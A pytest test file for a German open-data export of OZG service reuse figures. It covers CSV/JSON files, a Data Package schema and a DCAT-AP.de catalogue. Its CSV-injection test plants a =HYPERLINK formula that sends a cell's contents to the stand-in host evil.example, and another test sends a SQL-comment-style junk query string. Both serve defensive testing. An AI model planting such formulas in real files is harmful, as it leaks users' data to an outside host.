"""Open data over HTTP: the two datasets as CSV and JSON, their Data Package schema and
the DCAT-AP.de catalogue.

The demo data set is the base: Aufenthaltstitel is reused by twelve Länder (three of
them live, with authorities), Verpflichtungserklärung (Hessen) is live in Hessen with
two authorities. Listings and rollouts are added through the services.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from datetime import date
from urllib.parse import urlsplit

import pytest
from sqlalchemy import func, select

from fitstore.extensions import db
from fitstore.models import Authority, Contract, Listing, Reuse, ReuseStage, Rollout
from fitstore.models.base import utcnow
from fitstore.services import listings, opendata, reuses, transparency
from tests.conftest import login
from tests.factories import listing_content, user_by_email

LANDS_CSV = "/opendata/nachnutzung-laender.csv"
LANDS_JSON = "/opendata/nachnutzung-laender.json"
AUTHORITIES_CSV = "/opendata/nachnutzung-behoerden.csv"
AUTHORITIES_JSON = "/opendata/nachnutzung-behoerden.json"
DATAPACKAGE = "/opendata/datapackage.json"
DCAT = "/opendata/dcat.rdf"
FILES = (LANDS_CSV, LANDS_JSON, AUTHORITIES_CSV, AUTHORITIES_JSON)
LAND_HEADER = [
    "listing_id",
    "listing_title",
    "ozg_id",
    "provider_land_ags",
    "land_ags",
    "land_name",
    "status",
    "stage",
    "stage_since",
    "live_since",
    "live_authorities",
]
AUTHORITY_HEADER = [
    "listing_id",
    "listing_title",
    "ozg_id",
    "authority_ags",
    "authority_name",
    "authority_level",
    "kreis_ags",
    "land_ags",
    "status",
    "status_since",
    "live_since",
]
# Only this module's listings carry the word; the demo data never uses it.
WORD = "Schwalbenflug"


def csv_table(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    text = response.data.decode("utf-8")
    assert not text.startswith("\ufeff")  # plain UTF-8, no BOM
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_records(response) -> list[dict[str, str]]:
    header, *rows = csv_table(response)
    return [dict(zip(header, row, strict=True)) for row in rows]


def json_document(response) -> dict:
    assert response.status_code == 200, response.status_code
    assert response.headers["Content-Type"] == "application/json"
    return json.loads(response.data)


def expected_cell(value) -> str:
    """What the CSV must show for a service value (dates ISO, null empty, formulas quoted)."""
    if value is None:
        return ""
    text = value.isoformat() if isinstance(value, date) else str(value)
    return "'" + text if text[:1] in ("=", "+", "-", "@") else text


def expected_json(value):
    return value.isoformat() if isinstance(value, date) else value


def service_rows(app, function) -> list[dict]:
    with app.app_context():
        return list(function())


def publish(app, title: str, editor: str = "editor-bb", ozg_id: str = "98301") -> int:
    with app.app_context():
        author, fitko = user_by_email(f"{editor}@demo.test"), user_by_email("fitko-1@demo.test")
        listing_id = listings.create_listing(author, listing_content(title=title, ozg_id=ozg_id)).id
        listings.submit_listing(author, listing_id)
        listings.publish_listing(fitko, listing_id)
        return listing_id


def listing_id_of(app, title: str) -> int:
    with app.app_context():
        return db.session.scalar(select(Listing.id).where(Listing.title == title))


# --- the rows ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("csv_url", "json_url", "function", "header"),
    [
        (LANDS_CSV, LANDS_JSON, transparency.land_adoption_rows, LAND_HEADER),
        (
            AUTHORITIES_CSV,
            AUTHORITIES_JSON,
            transparency.authority_adoption_rows,
            AUTHORITY_HEADER,
        ),
    ],
)
def test_csv_and_json_agree_row_by_row_with_the_service(
    app, client, csv_url, json_url, function, header
):
    expected = service_rows(app, function)
    assert len(expected) > 16  # the demo data fills both datasets

    table = csv_table(client.get(csv_url))
    assert table[0] == header
    assert table[1:] == [[expected_cell(row[name]) for name in header] for row in expected]

    document = json_document(client.get(json_url))
    assert document["schema"] == "http://localhost/opendata/datapackage.json"
    assert document["resource"] == csv_url.rsplit("/", 1)[1].removesuffix(".csv")
    assert document["license"] == "http://dcat-ap.de/def/licenses/dl-by-de/2.0"
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", document["generated_at"])
    assert document["count"] == len(expected)
    assert document["rows"] == [
        {name: expected_json(row[name]) for name in header} for row in expected
    ]


def test_the_lands_dataset_has_16_rows_per_published_listing(app, client):
    publish(app, f"{WORD} ohne Nachnutzung")
    with app.app_context():
        published = db.session.scalar(
            select(func.count()).select_from(Listing).where(Listing.status == "published")
        )
    records = csv_records(client.get(LANDS_CSV))
    assert len(records) == 16 * published
    pairs = {(r["listing_id"], r["land_ags"]) for r in records}
    assert len(pairs) == len(records)  # the primary key is unique
    fresh = [r for r in records if r["listing_title"] == f"{WORD} ohne Nachnutzung"]
    assert sorted(r["land_ags"] for r in fresh) == [f"{n:02d}" for n in range(1, 17)]
    assert {r["status"] for r in fresh} == {"not_started"}
    assert {r["stage"] for r in fresh} == {""}
    assert {r["live_authorities"] for r in fresh} == {"0"}


def test_the_figures_equal_the_dashboard_overview(app, client):
    with app.app_context():
        overview = transparency.overview()
        figures = {f.listing.id: f for f in overview.listings}
    lands = csv_records(client.get(LANDS_CSV))
    authorities = json_document(client.get(AUTHORITIES_JSON))["rows"]

    aufenthalt = next(f for f in figures.values() if f.listing.title == "Aufenthaltstitel")
    mine = [r for r in lands if int(r["listing_id"]) == aufenthalt.listing.id]
    assert aufenthalt.live_authorities > 0 and aufenthalt.live_lands == 3
    assert sum(int(r["live_authorities"]) for r in mine) == aufenthalt.live_authorities
    live_rows = [
        r for r in authorities if r["listing_id"] == aufenthalt.listing.id and r["status"] == "live"
    ]
    assert len(live_rows) == aufenthalt.live_authorities
    assert len({r["kreis_ags"] for r in live_rows}) == aufenthalt.kreise_with_live

    for listing_id, f in figures.items():
        rows = [r for r in lands if int(r["listing_id"]) == listing_id]
        assert len(rows) == 16
        assert sum(r["status"] == "live" for r in rows) == f.live_lands
        assert sum(r["status"] == "onboarding" for r in rows) == f.onboarding_lands
        assert sum(r["status"] == "not_started" for r in rows) == f.not_started_lands
        assert sum(int(r["live_authorities"]) for r in rows) == f.live_authorities
    assert sum(r["status"] == "live" for r in lands) == overview.live_reuses
    assert sum(r["status"] == "onboarding" for r in lands) == overview.onboarding_reuses
    live = [r for r in authorities if r["status"] == "live"]
    assert len(live) == overview.live_connections
    assert len({r["authority_ags"] for r in live}) == overview.live_authorities
    assert len({r["kreis_ags"] for r in live}) == overview.kreise_with_live


def test_a_live_land_row_tells_stage_and_dates(app, client):
    bayern = next(
        r
        for r in json_document(client.get(LANDS_JSON))["rows"]
        if r["listing_title"] == "Aufenthaltstitel" and r["land_ags"] == "09"
    )
    assert bayern["land_name"] == "Bayern" and bayern["provider_land_ags"] == "12"
    assert bayern["status"] == "live" and bayern["stage"] == "live"
    assert bayern["live_since"] == bayern["stage_since"]
    assert date.fromisoformat(bayern["live_since"]) <= utcnow().date()
    assert bayern["live_authorities"] > 0


# --- what is public -----------------------------------------------------------------------


def _all_public_text(client) -> str:
    return "\n".join(
        client.get(url).data.decode("utf-8") for url in (*FILES, DATAPACKAGE, DCAT, "/opendata")
    )


def test_withdrawn_and_unpublished_listings_appear_nowhere(app, client):
    with app.app_context():
        author = user_by_email("editor-bb@demo.test")
        draft = listings.create_listing(author, listing_content(title=f"{WORD} Entwurf")).id
        submitted = listings.create_listing(
            author, listing_content(title=f"{WORD} eingereicht", ozg_id="98302")
        ).id
        listings.submit_listing(author, submitted)
    verpflichtung = listing_id_of(app, "Verpflichtungserklärung")
    before = json_document(client.get(AUTHORITIES_JSON))["rows"]
    assert any(r["listing_id"] == verpflichtung for r in before)  # live in two Kommunen

    with app.app_context():
        listings.withdraw_listing(user_by_email("editor-he@demo.test"), verpflichtung)
    text = _all_public_text(client)
    assert "Verpflichtungserklärung" not in text
    assert WORD not in text
    for url in (LANDS_JSON, AUTHORITIES_JSON):
        ids = {r["listing_id"] for r in json_document(client.get(url))["rows"]}
        assert not ids & {verpflichtung, draft, submitted}
    for url in (LANDS_CSV, AUTHORITIES_CSV):
        ids = {r["listing_id"] for r in csv_records(client.get(url))}
        assert not ids & {str(verpflichtung), str(draft), str(submitted)}


def test_private_fields_never_appear(app, client):
    """Conditions, money and contract data are planted with values found nowhere else."""
    token = "Geheimklausel7Q"
    with app.app_context():
        for reuse in db.session.scalars(select(Reuse).where(Reuse.stage == ReuseStage.LIVE)):
            reuse.interest_note = f"{token} Notiz"
            reuse.share_rule = f"{token} Anteil"
            reuse.scope = f"{token} Umfang"
            reuse.annual_fee_cents = 987_654_321
            reuse.connection_cost_cents = 876_543_219
            reuse.expected_usage = 7_654_321
        for number, contract in enumerate(db.session.scalars(select(Contract)), start=1):
            contract.number = f"V-{token}-{number}"
            contract.legal_basis = f"{token} Rechtsgrundlage"
            contract.check_remarks = f"{token} Prüfvermerk"
            contract.conditions = json.dumps({"note": token, "fee": 987_654_321})
        db.session.commit()
    text = _all_public_text(client)
    assert "Aufenthaltstitel" in text  # the scan did read the files
    for planted in (token, "987654321", "9876543,21", "876543219", "7654321"):
        assert planted not in text


def test_the_files_are_the_same_for_a_logged_in_fitko_user(app, client):
    anonymous = {url: client.get(url).data for url in (LANDS_CSV, AUTHORITIES_CSV)}
    fitko = app.test_client()
    assert login(fitko, "fitko-1@demo.test").status_code == 302
    for url, data in anonymous.items():
        assert fitko.get(url).data == data


# --- CSV details --------------------------------------------------------------------------


def test_csv_injection_is_neutralised(app, client):
    titles = [
        '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
        "+49 30 1234",
        "-1+1",
        "@SUM(1+1)",
    ]
    for number, title in enumerate(titles):
        publish(app, f"{title} {WORD}", ozg_id=f"9831{number}")
    records = csv_records(client.get(LANDS_CSV))
    shown = {r["listing_title"] for r in records if WORD in r["listing_title"]}
    assert shown == {f"'{title} {WORD}" for title in titles}
    # JSON is data, not a spreadsheet: it keeps the text as written.
    rows = json_document(client.get(LANDS_JSON))["rows"]
    assert {r["listing_title"] for r in rows if WORD in r["listing_title"]} == {
        f"{title} {WORD}" for title in titles
    }


def test_downloads_name_their_file_and_allow_any_origin(client):
    for url in FILES:
        response = client.get(url)
        assert response.data  # read to the end: the stream closes with its request
        name = url.rsplit("/", 1)[1]
        assert response.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert response.headers["Access-Control-Allow-Origin"] == "*"
    assert client.get(LANDS_CSV).data.startswith(b"listing_id,listing_title,")


def test_unknown_files_are_404(client):
    for url in (
        "/opendata/nachnutzung-laender.xml",
        "/opendata/nachnutzung.csv",
        "/opendata/datapackage.yaml",
    ):
        assert client.get(url).status_code == 404
    # Query strings are not parameters of these files: garbage changes nothing.
    assert client.get(LANDS_CSV + "?limit=-1&x=%27;--").data == client.get(LANDS_CSV).data


# --- streaming and queries ----------------------------------------------------------------


def grow(app) -> int:
    """Bayern's live reuse of Aufenthaltstitel gets 600 more authorities, 300 of them
    live; two more listings are published. Returns the authorities added."""
    with app.app_context():
        editor = user_by_email("editor-by@demo.test")
        reuse = db.session.scalar(
            select(Reuse)
            .join(Listing)
            .where(Listing.title == "Aufenthaltstitel", Reuse.adopter_land_ags == "09")
        )
        reuse_id = reuse.id
        taken = select(Rollout.authority_id).where(Rollout.reuse_id == reuse_id)
        codes = list(
            db.session.scalars(
                select(Authority.ags)
                .where(Authority.land_ags == "09", Authority.id.not_in(taken))
                .order_by(Authority.ags)
                .limit(600)
            )
        )
        today = utcnow().date().isoformat()
        assert reuses.add_rollout_authorities(editor, reuse_id, codes, today) == 600
        assert reuses.update_rollout(editor, reuse_id, codes[:300], "connecting", today) == 300
        assert reuses.update_rollout(editor, reuse_id, codes[:300], "live", today) == 300
    publish(app, f"{WORD} Wachstum 1", ozg_id="98321")
    publish(app, f"{WORD} Wachstum 2", ozg_id="98322")
    return 600


def test_every_file_runs_the_same_queries_whatever_the_data_size(app, client, count_queries):
    urls = (*FILES, DATAPACKAGE, DCAT, "/opendata")

    def measure() -> dict[str, int]:
        counts = {}
        for url in urls:
            with count_queries() as counter:
                response = client.get(url)
                assert response.status_code == 200
                size = len(response.data)  # a streamed body is read here
            assert size > 0
            counts[url] = counter.count
        return counts

    small = measure()
    before = len(json_document(client.get(AUTHORITIES_JSON))["rows"])
    added = grow(app)
    assert len(json_document(client.get(AUTHORITIES_JSON))["rows"]) == before + added
    assert measure() == small
    assert small[LANDS_CSV] <= 4 and small[AUTHORITIES_CSV] <= 2
    assert small[DATAPACKAGE] == 0 and small[DCAT] == 0


def test_the_files_are_streamed_in_chunks(app, client):
    grow(app)  # more rows than one chunk holds
    for url in FILES:
        response = client.get(url)
        assert response.status_code == 200
        assert response.is_streamed and "Content-Length" not in response.headers
        chunks = [chunk for chunk in response.response if chunk]
        # The head first, then the rows in batches (900 authority rows: two batches).
        assert len(chunks) >= (3 if "behoerden" in url else 2), url
        if url.endswith(".json"):
            assert json.loads(b"".join(chunks))["count"] > 0
    # The schema and the catalogue are small documents with a length.
    assert "Content-Length" in client.get(DATAPACKAGE).headers


# --- the Data Package ------------------------------------------------------------------------


def test_the_datapackage_describes_exactly_the_csv_files(app, client):
    package = json_document_any(client.get(DATAPACKAGE))
    assert package["profile"] == "tabular-data-package"
    assert package["licenses"][0]["name"] == "DL-DE-BY-2.0"
    assert package["id"] == "http://localhost/opendata/datapackage.json"
    resources = {r["name"]: r for r in package["resources"]}
    assert set(resources) == {"nachnutzung-laender", "nachnutzung-behoerden"}
    for name, header in (
        ("nachnutzung-laender", LAND_HEADER),
        ("nachnutzung-behoerden", AUTHORITY_HEADER),
    ):
        resource = resources[name]
        assert resource["profile"] == "tabular-data-resource"
        assert resource["path"] == f"http://localhost/opendata/{name}.csv"
        assert resource["alternatives"][0]["path"] == f"http://localhost/opendata/{name}.json"
        schema = resource["schema"]
        fields = schema["fields"]
        table = csv_table(client.get(urlsplit(resource["path"]).path))
        assert [f["name"] for f in fields] == table[0] == header
        for f in fields:
            assert f["type"] in ("integer", "string", "date")
            assert f["title"] and f["description"]
            assert f["translations"]["en"]["title"] and f["translations"]["en"]["description"]
        assert set(schema["primaryKey"]) <= set(header)
        assert_rows_fit_the_schema(schema, table)


def json_document_any(response) -> dict:
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("application/json")
    return json.loads(response.data)


def assert_rows_fit_the_schema(schema: dict, table: list[list[str]]) -> None:
    """Validate every CSV cell against its Table Schema field, as a harvester would."""
    header, *rows = table
    assert rows
    fields = {f["name"]: f for f in schema["fields"]}
    keys = [header.index(name) for name in schema["primaryKey"]]
    assert len({tuple(row[i] for i in keys) for row in rows}) == len(rows), "primary key"
    for row in rows:
        for name, cell in zip(header, row, strict=True):
            f = fields[name]
            constraints = f.get("constraints", {})
            if cell in schema["missingValues"]:
                assert not constraints.get("required"), (name, row)
                continue
            if f["type"] == "integer":
                number = int(cell)
                assert number >= constraints.get("minimum", number), (name, cell)
            elif f["type"] == "date":
                assert date.fromisoformat(cell).isoformat() == cell, (name, cell)
            if "enum" in constraints:
                assert cell in constraints["enum"], (name, cell)
            if "pattern" in constraints:
                assert re.fullmatch(constraints["pattern"], cell), (name, cell)


def test_the_schema_enums_name_every_value_the_code_knows(client):
    package = json_document_any(client.get(DATAPACKAGE))
    fields = {
        (r["name"], f["name"]): f for r in package["resources"] for f in r["schema"]["fields"]
    }
    assert fields[("nachnutzung-laender", "stage")]["constraints"]["enum"] == [
        s.value for s in ReuseStage
    ]
    assert fields[("nachnutzung-laender", "status")]["constraints"]["enum"] == [
        transparency.LAND_LIVE,
        transparency.LAND_ONBOARDING,
        transparency.LAND_NOT_STARTED,
    ]
    assert fields[("nachnutzung-behoerden", "status")]["constraints"]["enum"] == [
        "planned",
        "connecting",
        "live",
    ]
    assert fields[("nachnutzung-behoerden", "authority_level")]["constraints"]["enum"] == [
        "kreis",
        "gemeinde",
    ]


# --- DCAT-AP.de ----------------------------------------------------------------------------

NS = {
    "rdf": "http://www.w3.org/1999/02/22-rdf-syntax-ns#",
    "dcat": "http://www.w3.org/ns/dcat#",
    "dct": "http://purl.org/dc/terms/",
    "foaf": "http://xmlns.com/foaf/0.1/",
    "vcard": "http://www.w3.org/2006/vcard/ns#",
    "dcatde": "http://dcat-ap.de/def/dcatde/",
}
RESOURCE = f"{{{NS['rdf']}}}resource"
ABOUT = f"{{{NS['rdf']}}}about"
LANG = "{http://www.w3.org/XML/1998/namespace}lang"


def one(element: ET.Element, path: str) -> ET.Element:
    found = element.findall(path, NS)
    assert len(found) == 1, f"{path}: {len(found)}"
    return found[0]


def resource(element: ET.Element, path: str) -> str:
    return one(element, path).get(RESOURCE)


def german(element: ET.Element, path: str) -> str:
    texts = {e.get(LANG): e.text for e in element.findall(path, NS)}
    assert texts.get("de"), path
    return texts["de"]


def test_the_dcat_catalogue_has_every_dcat_ap_de_property(client):
    response = client.get(DCAT, base_url="https://daten.example.org")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "application/rdf+xml; charset=utf-8"
    root = ET.fromstring(response.data)  # noqa: S314 (our own output, no entities)
    assert root.tag == f"{{{NS['rdf']}}}RDF"
    base = "https://daten.example.org/"

    catalog = one(root, "dcat:Catalog")
    assert german(catalog, "dct:title") and german(catalog, "dct:description")
    agent = one(catalog, "dct:publisher/foaf:Agent")
    assert one(agent, "foaf:name").text == "FITKO (Föderale IT-Kooperation)"
    publisher = agent.get(ABOUT)
    assert publisher.startswith(base)
    assert resource(catalog, "dct:language").endswith("/language/DEU")
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", one(catalog, "dct:modified").text)

    datasets = catalog.findall("dcat:dataset/dcat:Dataset", NS)
    assert len(datasets) == 2
    seen_downloads = set()
    for dataset in datasets:
        uri = dataset.get(ABOUT)
        assert uri.startswith(base + "opendata#")
        assert german(dataset, "dct:title") and german(dataset, "dct:description")
        assert one(dataset, "dct:identifier").text == uri
        assert len(dataset.findall("dcat:keyword", NS)) >= 3
        assert (
            resource(dataset, "dcat:theme")
            == "http://publications.europa.eu/resource/authority/data-theme/GOVE"
        )
        assert resource(dataset, "dct:publisher") == publisher
        assert resource(dataset, "dcatde:contributorID").startswith(
            "http://dcat-ap.de/def/contributors/"
        )
        assert (
            resource(dataset, "dcatde:politicalGeocodingLevelURI")
            == "http://dcat-ap.de/def/politicalGeocoding/Level/federal"
        )
        assert resource(dataset, "dct:spatial").startswith("http://publications.europa.eu/")
        assert resource(dataset, "dct:accrualPeriodicity").startswith(
            "http://publications.europa.eu/resource/authority/frequency/"
        )
        contact = one(dataset, "dcat:contactPoint/vcard:Organization")
        assert one(contact, "vcard:fn").text
        assert resource(contact, "vcard:hasEmail").startswith("mailto:")

        formats = []
        for distribution in dataset.findall("dcat:distribution/dcat:Distribution", NS):
            download = resource(distribution, "dcat:downloadURL")
            assert resource(distribution, "dcat:accessURL") == download
            assert download.startswith(base + "opendata/")
            seen_downloads.add(download)
            file_type = resource(distribution, "dct:format")
            assert file_type.startswith(
                "http://publications.europa.eu/resource/authority/file-type/"
            )
            formats.append(file_type.rsplit("/", 1)[1])
            media_type = resource(distribution, "dcat:mediaType")
            assert media_type.startswith("http://www.iana.org/assignments/media-types/")
            assert (
                resource(distribution, "dct:license")
                == "http://dcat-ap.de/def/licenses/dl-by-de/2.0"
            )
            attribution = one(distribution, "dcatde:licenseAttributionByText").text
            assert "© GeoBasis-DE / BKG 2017" in attribution
            conforms = resource(distribution, "dct:conformsTo")
            if not download.endswith("datapackage.json"):
                assert conforms == base + "opendata/datapackage.json"
            # The file is where the catalogue says, of the type it says.
            served = client.get(urlsplit(download).path)
            assert served.status_code == 200 and served.data
            assert served.headers["Content-Type"].split(";")[0] == media_type.split("/", 5)[-1]
        assert sorted(formats) == ["CSV", "JSON", "JSON"]
    assert seen_downloads == {
        base + "opendata/nachnutzung-laender.csv",
        base + "opendata/nachnutzung-laender.json",
        base + "opendata/nachnutzung-behoerden.csv",
        base + "opendata/nachnutzung-behoerden.json",
        base + "opendata/datapackage.json",
    }
    # Every URI in the file is absolute.
    for element in root.iter():
        for key in (RESOURCE, ABOUT):
            value = element.get(key)
            if value is not None:
                parts = urlsplit(value)
                assert parts.scheme in ("http", "https", "mailto"), value
                assert parts.netloc or parts.scheme == "mailto", value


def test_the_contributor_id_can_be_configured(app_factory):
    configured = "http://dcat-ap.de/def/contributors/beispielportal"
    app = app_factory(OPENDATA_CONTRIBUTOR_ID=configured)
    root = ET.fromstring(app.test_client().get(DCAT).data)  # noqa: S314 (our own output)
    ids = {e.get(RESOURCE) for e in root.iter(f"{{{NS['dcatde']}}}contributorID")}
    assert ids == {configured}


# --- the page ------------------------------------------------------------------------------


def test_the_page_documents_every_column_and_links_every_file(client):
    response = client.get("/opendata")
    assert response.status_code == 200
    markup = response.data.decode()
    for dataset, header in (
        (opendata.LANDS, LAND_HEADER),
        (opendata.AUTHORITIES, AUTHORITY_HEADER),
    ):
        section = markup.split(f'id="{dataset.slug}"', 1)[1].split("</section>", 1)[0]
        assert re.findall(r'data-column="([a-z_]+)"', section) == header
        assert f'href="http://localhost/opendata/{dataset.slug}.csv"' in section
        assert f'href="http://localhost/opendata/{dataset.slug}.json"' in section
    for heading in ("Spalte", "Typ", "Beschreibung", "Werte"):
        assert f'scope="col">{heading}</th>' in markup
    assert 'href="http://localhost/opendata/datapackage.json"' in markup
    assert 'href="http://localhost/opendata/dcat.rdf"' in markup
    assert "Datenlizenz Deutschland – Namensnennung – Version 2.0" in markup
    assert "© GeoBasis-DE / BKG 2017" in markup
    assert "<code>onboarding</code>: begonnen, aber noch nicht live" in markup


def test_the_page_shows_the_english_column_descriptions_in_english(client):
    markup = client.get("/opendata?lang=en").data.decode()
    assert "Number of this Land&#39;s authorities that are live with the listing." in markup
    assert "Zahl der Behörden dieses Landes" not in markup
